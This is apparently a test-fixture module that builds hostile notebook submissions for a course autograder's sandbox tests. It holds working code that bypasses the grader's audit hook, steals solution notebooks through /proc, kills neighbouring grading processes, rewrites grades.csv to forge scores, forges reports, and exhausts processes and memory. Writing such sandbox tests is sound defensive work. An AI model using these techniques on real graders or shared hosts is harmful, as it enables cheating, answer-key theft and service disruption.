"""A hostile class for ps01: honest copies of the solution, a stub, and one submission per known attack.

Each attack replaces the three solution cells: the first holds the attack, and every function it did not obtain is
a stub raising NotImplementedError, so the attack scores only what it steals or forges. The attacks go around the
grader's audit hook (raw `_posixsubprocess.fork_exec`, pidfd signals, `/proc`); without the OS sandbox they work.
Anything they leave running carries MARKER in its command line, so a test can look for survivors.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat

MARKER = "dsgd-hostile-marker"
FUNCS = {"ps01_sgd_q1_solution": ("minibatch_indices", "n, batch_size, step, seed"),
         "ps01_sgd_q2_solution": ("logistic_grad", "w, X, y"),
         "ps01_sgd_q3_solution": ("train", "X, y, lr, batch_size, steps, seed")}

PRELUDE = r'''
import json, os, _posixsubprocess
def _run(argv, setsid=False):
    """Run argv in a child started by the raw fork_exec (no audit event) and return its stdout."""
    r, w = os.pipe()
    er, ew = os.pipe()
    pid = _posixsubprocess.fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (ew,), None, None,
                                     -1, -1, -1, w, -1, -1, er, ew, True, setsid, -1, None, None, None, -1,
                                     None, False)
    os.close(w); os.close(ew)
    out = b""
    while block := os.read(r, 1 << 16):
        out += block
    os.close(r); os.close(er)
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
    return out
def _batch_dirs():
    """The grader's folders (sources, submissions, --out) as the kernel's command line gives them away."""
    dirs = []
    try:
        for arg in open("/proc/self/cmdline", "rb").read().split(b"\0"):
            if arg.startswith(b"[") and arg.endswith(b"]"):
                dirs += [d for d in json.loads(arg) if isinstance(d, str)]
    except Exception:
        pass
    return dirs
def _exec_solutions(text):
    """Define every solution function found in a notebook's JSON text."""
    try:
        cells = json.loads(text)["cells"]
    except Exception:
        return False
    for cell in cells:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell.get("cell_type") == "code" and "def " in src and "check(" not in src and "NotImplementedError" not in src:
            try:
                exec(src, globals())
            except Exception:
                pass
    return "train" in globals()
'''

THEFT_CHILD = PRELUDE + r'''
import dsgd_teach
guesses = [os.path.join(d, "ps01_sgd", "ps01_sgd.ipynb") for d in _batch_dirs()]
guesses.append(os.path.join(os.path.dirname(os.path.dirname(dsgd_teach.__file__)),
                            "course", "assignments", "source", "ps01_sgd", "ps01_sgd.ipynb"))
for path in guesses:
    if _exec_solutions(_run(["/bin/cat", path])):
        break
'''

READ_PROC = PRELUDE + r'''
listing = _run(["/bin/sh", "-c", "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/cmdline; readlink $p/cwd; done"])
dirs = set()
for line in listing.decode(errors="replace").splitlines():
    if line.startswith("[") and line.endswith("]"):
        try:
            dirs.update(json.loads(line))
        except ValueError:
            pass
    elif line.startswith("/") and "dsgd" in line:
        dirs.add(line)
for d in sorted(dirs):
    found = _run(["/usr/bin/find", d, "-name", "*.ipynb", "-type", "f"]).decode(errors="replace").split()
    if any(_exec_solutions(_run(["/bin/cat", nb])) for nb in found if "/source/" not in nb):
        break
'''

KILL_PIDS = PRELUDE + r'''
import signal, threading, time
own = {os.getpid(), os.getppid()}
mine = [a for a in open("/proc/self/cmdline", "rb").read().split(b"\0") if a.startswith(b"[")]
def _targets():
    """Other kernels of this batch (their command line names the same folders) and the workers above them."""
    listing = _run(["/bin/sh", "-c", "for p in /proc/[0-9]*; do echo \"${p#/proc/} $(cut -d' ' -f4 $p/stat) "
                    "$(tr '\\0' ' ' < $p/cmdline)\"; done 2>/dev/null"]).decode(errors="replace")
    out = []
    for line in listing.splitlines():
        parts = line.split(" ", 2)
        if len(parts) == 3 and "dsgd_teach.grading.kernel" in parts[2] and (not mine or mine[0].decode() in parts[2]):
            out += [int(parts[0]), int(parts[1])]
    return [t for t in out if t not in own and t > 1]
def _killer():
    end = time.time() + 40
    while time.time() < end:
        for i, pid in enumerate(_targets()):
            try:
                if i % 2:
                    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
                else:
                    _run(["/bin/kill", "-9", str(pid)])
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=_killer, daemon=True).start()
'''
KILL_PIDS_LAST = "import time\ntime.sleep(12)  # keep the killer thread alive while the neighbours are graded\n"

DETACHED = PRELUDE + r'''
script = ("for i in $(seq 1500); do for d in " + " ".join(_batch_dirs() + ["/tmp"]) + "; do "
          "if [ -f $d/grading.json ] && [ -f $d/grades.csv ]; then "
          "sed -i 's/^detached,ps01_sgd,\\([a-z0-9_]*\\),0.0,2.0,.*$/detached,ps01_sgd,\\1,2.0,2.0,passed,bubblewrap/' "
          "$d/grades.csv; sleep 20; exit 0; fi; done; sleep 0.1; done # MARKER")
_run(["/bin/sh", "-c", "setsid /bin/sh -c \"$0\" >/dev/null 2>&1 < /dev/null &", script], setsid=True)
'''.replace("MARKER", MARKER)

PLANT = PRELUDE + r'''
for d in _batch_dirs() + [os.getcwd()]:
    _run(["/bin/sh", "-c", "mkfifo \"$0/grades.csv\" \"$0/zz_planted.ipynb\"; ln -s /dev/zero \"$0/zz_link.ipynb\"; "
          "mkdir -p \"$0/feedback\"; ln -s /tmp \"$0/feedback/ps01_sgd\"; "
          "/usr/bin/python3 -c \"import socket, sqlite3, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1] + "
          "'/zz_sock.ipynb'); sqlite3.connect(sys.argv[1] + '/zz.sqlite').execute('create table t(x)')\" \"$0\"", d])
'''

FLOOD = r'''
import os, sys
block = b"x" * (1 << 20)
for fd in (1, 2):
    for _ in range(100):
        os.write(fd, block)
print("y" * (10 << 20))
sys.stderr.write("z" * (10 << 20))
'''

MONKEYPATCH_THREAD = r'''
import builtins, threading, time
import numpy as np
import dsgd_teach.grading.probe as probe
from IPython.display import publish_display_data
def _fake(label, *args, **kwargs):
    publish_display_data({probe.MIME: {"label": str(label), "value": {"t": "arr", "shape": [4], "v": [0.0, 1.0, 2.0, 3.0]}}})
def _patch():
    end = time.time() + 30
    while time.time() < end:
        g = globals()
        g["check"] = g["_dsgd_record"] = _fake
        probe.record = _fake
        builtins.print = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=_patch, daemon=True).start()
'''

FORGED = r'''
import json, os
import dsgd_teach.grading.probe as probe
from IPython.display import publish_display_data, clear_output
forged = {"tests": {f"ps01_sgd_q{i}_tests": {"status": "ok", "records": [], "error": ""} for i in (1, 2, 3)},
          "skipped": [], "flags": [], "cell_errors": []}
line = "\n" + json.dumps(forged) + "\n"
print(line)
os.write(1, line.encode())
os.write(2, line.encode())
for fd in range(3, 64):
    try:
        os.write(fd, line.encode())
    except OSError:
        pass
try:
    for fd in os.listdir(f"/proc/{os.getppid()}/fd"):
        try:
            with open(f"/proc/{os.getppid()}/fd/{fd}", "w") as fh:
                fh.write(line)
        except OSError:
            pass
except OSError:
    pass
_real_record = _dsgd_record
def _dsgd_record(label, got):
    clear_output()
    publish_display_data({probe.MIME: {"label": str(label), "value": {"t": "num", "v": 0.0}}})
'''

ANSWER_ZERO = r'''
def minibatch_indices(n, batch_size, step, seed):
    return 0
def logistic_grad(w, X, y):
    return 0
def train(X, y, lr, batch_size, steps, seed):
    return 0
'''

MALFORMED_REPORTS = r'''
import dsgd_teach.grading.probe as _probe
from IPython.display import publish_display_data as _pub
_bad = [{"t": "num", "v": "not a number"}, {"t": "num", "v": 10 ** 400}, {"t": "arr", "shape": [1], "v": [{"x": 1}]},
        {"t": "seq", "v": "abc"}, {"t": "num", "v": 1.0, "points": 2}]
_sent = [0]
def _dsgd_record(label, got):
    _sent[0] += 1
    _pub({_probe.MIME: {"label": str(label), "value": _bad[_sent[0] % len(_bad)]}})
    _pub({_probe.MIME: {"label": "\ud800" + str(label), "error": "\ud800\udfff" * 1000}})
''' + ANSWER_ZERO

ECHO_HIDDEN = r'''
import linecache, os, sys
import dsgd_teach.grading.probe as _probe
from IPython.display import publish_display_data as _pub
def _dsgd_record(label, got):
    cell = "".join(linecache.getlines(sys._getframe(1).f_code.co_filename))
    text = (cell + f"\nseed={os.environ.get('DSGD_GRADER_SEED')}\n\x1b[2J\rhonest_2,ps01_sgd,ps01_sgd_q1_tests,0.0,2.0,"
            "forged row,bubblewrap\n\u202e" + "A\n" * 1_000_000)
    _pub({_probe.MIME: {"label": str(label), "error": text}})
''' + ANSWER_ZERO

FLOOD_AFTER_DENIAL = r'''
import os, subprocess
try:
    subprocess.run(["/bin/true"])
except PermissionError:
    pass
os.write(2, b"w" * 300_000)  # the kernel's own stderr, where the audit hook reported denials
'''

# Kernel-level attacks, each run in a child started by the raw fork_exec (no audit hook), which prints what it got;
# the cell's stub raises that text, so a row whose reason says ESCAPED shows an attack that got through.
def _child(gid: str, code: str) -> str:
    """A solution cell that runs code in an unhooked child and makes gid's function raise what the child printed."""
    name, args = FUNCS[gid]
    return PRELUDE + (f"import sys\n_said = _run([sys.executable, '-c', {code!r}]).decode(errors='replace').strip()\n"
                      f"def {name}({args}):\n    raise NotImplementedError(_said[-160:] or 'the probe was killed')\n")


LIBC = "import ctypes, os, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"
KEYRING = LIBC + """
made = [r for r in (-4, -5) if libc.syscall(248, b"user", b"dsgd-hostile-answers", b"def train(): ...", 16,
                                           ctypes.c_int(r)) >= 0]  # add_key into the user (session) keyring
print(f"ESCAPED: stored keys in keyrings {made}" if made else "add_key: " + os.strerror(ctypes.get_errno()))
"""
USERNS = LIBC + """
if libc.unshare(0x10000000 | 0x20000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
    sys.exit(print("unshare: " + os.strerror(ctypes.get_errno())))
print("ESCAPED: a nested user namespace", end="; ", flush=True)
try:
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", f"0 {os.getgid()} 1")):
        with open(f"/proc/self/{name}", "w") as fh:
            fh.write(text)
    ok = libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=2g") == 0
    for i in range(2 if ok else 0):  # 300 MB, past the sandbox /tmp's 256 MB
        with open(f"/tmp/hoard{i}", "wb") as fh:
            fh.write(b"x" * (150 << 20))
    print(f"uid {os.getuid()} inside, a private tmpfs: {ok}")
except OSError as e:
    print(e)
"""
MEMFD = """
import os, time
fds, block = [], b"x" * (1 << 20)
for _ in range(16):  # 16 x 200 MB = 3.2 GB, each memfd under the 256 MB file-size limit, none mapped (RLIMIT_AS)
    fds.append(os.memfd_create("hoard"))
    for _ in range(200):
        os.write(fds[-1], block)
time.sleep(2)
print("ESCAPED: held 3200 MB in memfds")
"""
FORK_BOMB = """
import os, time
n = 0
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        n += 1
    except OSError:
        break
print(("ESCAPED: " if n >= 128 else "") + f"{n} processes started")
"""
SPINNER = PRELUDE + r"""
import time
_run(["/bin/sh", "-c", "for i in $(seq 30); do setsid /usr/bin/timeout 14 /bin/sh -c 'while :; do :; done' "
      "</dev/null >/dev/null 2>&1 & done"])
time.sleep(9)  # the spinners spin while a neighbour is graded
"""
WATCH = LIBC + """
fd = libc.inotify_init1(0o4000)
wd = libc.inotify_add_watch(fd, sys.prefix.encode(), 0x20 | 0x1)  # IN_OPEN | IN_ACCESS
fan = libc.fanotify_init(0x200, 0)  # FAN_REPORT_FID: what an unprivileged user may ask for
said = ["inotify_add_watch: " + ("ok" if wd >= 0 else "denied"), "fanotify_init: " + ("ok" if fan >= 0 else "denied")]
print(("ESCAPED: " if wd >= 0 or fan >= 0 else "") + ", ".join(said))
"""
BUDGET = "import time\ntime.sleep(13)  # each cell under --timeout, together past --notebook-s\n"
# The kernel's parent is the grading worker (same sandbox, same uid): kill it, or stop it so that it overruns.
KILL_OWN_WORKER = PRELUDE + '_run(["/bin/kill", "-9", str(os.getppid())])\n'
OVERRUN = PRELUDE + '_run(["/bin/kill", "-STOP", str(os.getppid())])\n'

ATTACKS = {
    "theft_child": {"ps01_sgd_q1_solution": THEFT_CHILD},
    "read_proc": {"ps01_sgd_q1_solution": READ_PROC},
    "kill_pids": {"ps01_sgd_q1_solution": KILL_PIDS, "ps01_sgd_q3_solution": KILL_PIDS_LAST},
    "detached": {"ps01_sgd_q1_solution": DETACHED},
    "plant": {"ps01_sgd_q1_solution": PLANT},
    "flood": {"ps01_sgd_q1_solution": FLOOD + "\n{SOLUTION}"},
    "monkeypatch_thread": {"ps01_sgd_q1_solution": MONKEYPATCH_THREAD},
    "forged_reports": {"ps01_sgd_q1_solution": FORGED},
    "malformed_reports": {"ps01_sgd_q1_solution": MALFORMED_REPORTS},
    "echo_hidden": {"ps01_sgd_q1_solution": ECHO_HIDDEN},
    "flood_after_denial": {"ps01_sgd_q1_solution": FLOOD_AFTER_DENIAL},
    "keyring": {"ps01_sgd_q1_solution": _child("ps01_sgd_q1_solution", KEYRING)},
    "memory": {"ps01_sgd_q1_solution": _child("ps01_sgd_q1_solution", USERNS),
               "ps01_sgd_q2_solution": _child("ps01_sgd_q2_solution", MEMFD)},
    "watch_spin": {"ps01_sgd_q1_solution": _child("ps01_sgd_q1_solution", WATCH),
                   "ps01_sgd_q2_solution": _child("ps01_sgd_q2_solution", FORK_BOMB),
                   "ps01_sgd_q3_solution": SPINNER},
    "budget": {f"ps01_sgd_q{i}_solution": BUDGET + ("\n{SOLUTION}" if i == 1 else "") for i in (1, 2, 3)},
    # issue 45: the grader's own memory, metadata nbgrader refuses, workers that die or overrun
    "parse_bomb": {},
    "newer_schema": {},
    "duplicate_test": {gid: "{SOLUTION}" for gid in FUNCS},
    "metadata_chaos": {},
    "kill_own_worker": {"ps01_sgd_q1_solution": KILL_OWN_WORKER},
    "overrun": {"ps01_sgd_q1_solution": OVERRUN},
}
# What attacks answered honestly (the rest scores 0): duplicate_test is an honest student who pasted a test twice.
HONEST_POINTS = {"flood": {"q1": 2.0}, "budget": {"q1": 2.0},
                 "duplicate_test": {"q1": 2.0, "q2": 2.0, "q3": 2.0}}
# The row's reason must say what happened; none of these is flagged (the grader observed no denied action).
REASONS = {"parse_bomb": "could not read the notebook", "kill_own_worker": "the grading process failed (exit",
           "overrun": "took longer than"}
UNFLAGGED = {"parse_bomb", "newer_schema", "duplicate_test", "metadata_chaos", "kill_own_worker", "overrun"}
FLAGGED = {"malformed_reports", "echo_hidden", "flood_after_denial"}  # attacks the grader must flag
_SOLUTION = re.compile(r"### BEGIN SOLUTION.*?### END SOLUTION", re.S)


def _stub(gid: str) -> str:
    name, args = FUNCS[gid]
    return f"if {name!r} not in globals():\n    def {name}({args}):\n        raise NotImplementedError()\n"


def write_submission(source_nb: Path, dest: Path, kind: str) -> None:
    """Write an honest ("good"), stub ("stub") or attack (a key of ATTACKS) ps01 submission to dest."""
    nb = nbformat.read(str(source_nb), as_version=4)
    changes = ATTACKS.get(kind, {})
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid not in FUNCS or kind == "good":
            continue
        if kind == "stub":
            cell.source = _SOLUTION.sub("raise NotImplementedError()", cell.source)
        elif "{SOLUTION}" in changes.get(gid, ""):
            cell.source = changes[gid].replace("{SOLUTION}", cell.source)
        else:
            cell.source = changes.get(gid, "") + "\n" + _stub(gid)
    dest.parent.mkdir(parents=True, exist_ok=True)
    if kind in NOTEBOOK_CHANGES:
        NOTEBOOK_CHANGES[kind](nb)
    dest.write_text(json.dumps(nb))
    if kind == "parse_bomb":
        _plant_bomb(dest)


def _newer_schema(nb) -> None:
    """An extra cell carrying nbgrader metadata of schema version 4."""
    cell = nbformat.v4.new_code_cell("answer = 42")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "extra_credit", "locked": False, "points": 5,
                                 "schema_version": 4, "solution": False, "task": False}
    nb.cells.insert(3, cell)


def _duplicate_test(nb) -> None:
    """The first test cell pasted twice, as a student copies a released cell (its hidden block is not there)."""
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade")
              and not c.metadata["nbgrader"].get("solution"))
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[at])))
    copy.source = re.sub(r"[ \t]*### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS\n?", "", copy.source, flags=re.S)
    nb.cells.insert(at + 1, copy)


def _metadata_chaos(nb) -> None:
    """Cells whose metadata and shape break every rule: wrong types, nesting, unknown kinds, copies, a new schema."""
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))
    meta = dict(test.metadata["nbgrader"])
    chaos = [{"schema_version": "3"}, [1, 2], "nbgrader", {**meta, "points": "2"}, {**meta, "grade": 1},
             {**meta, "grade_id": {"nested": [meta]}}, {**meta, "schema_version": 99}, {}, {**meta, "extra": True},
             {**meta, "grade_id": "unknown_id"}, dict(meta), {**meta, "schema_version": None}]
    cells = [{"cell_type": "code", "source": "pass", "metadata": {"nbgrader": m}, "outputs": [],
              "execution_count": None} for m in chaos]
    cells += [{"cell_type": "code", "source": ["x = ", 1], "metadata": "not an object"}, 7, None,
              {"cell_type": "widget", "source": "?"}, {"cell_type": "markdown", "metadata": {"nbgrader": meta}}]
    nb.cells = nb.cells[:1] + cells + nb.cells[1:]
    nb.metadata["dsgd_teach_grading"] = {"unreadable": "planted by the student", "problems": ["planted"]}


NOTEBOOK_CHANGES = {"newer_schema": _newer_schema, "duplicate_test": _duplicate_test,
                    "metadata_chaos": _metadata_chaos}


def write_parse_bomb(source_nb: Path, dest: Path) -> None:
    """A stub ps01 submission of about 12 MB whose first cell's metadata carries 4.2 million empty JSON objects."""
    write_submission(source_nb, dest, "parse_bomb")


def _plant_bomb(dest: Path, objects: int = 4_200_000) -> None:
    nb = json.loads(dest.read_text())
    nb["cells"][0]["metadata"]["bomb"] = "@@BOMB@@"
    dest.write_text(json.dumps(nb).replace('"@@BOMB@@"', "[" + ",".join(["{}"] * objects) + "]"))
